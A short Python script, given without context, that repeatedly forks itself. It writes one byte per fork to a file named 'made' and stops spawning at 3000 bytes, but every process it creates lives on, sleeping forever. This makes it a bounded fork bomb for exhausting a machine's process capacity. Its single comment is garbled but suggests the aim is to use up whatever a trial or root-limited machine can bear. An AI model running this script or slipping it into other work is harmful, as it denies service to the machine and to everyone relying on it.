import os
import time

# as many as end any trial, and a machine can bear where nothing else limits root's
MOST = 3000
made = os.open("made", os.O_WRONLY | os.O_CREAT | os.O_APPEND)
while True:
    if os.fstat(made).st_size >= MOST:
        time.sleep(1)
        continue
    os.write(made, b".")
    try:
        os.fork()
    except OSError:
        time.sleep(0.1)
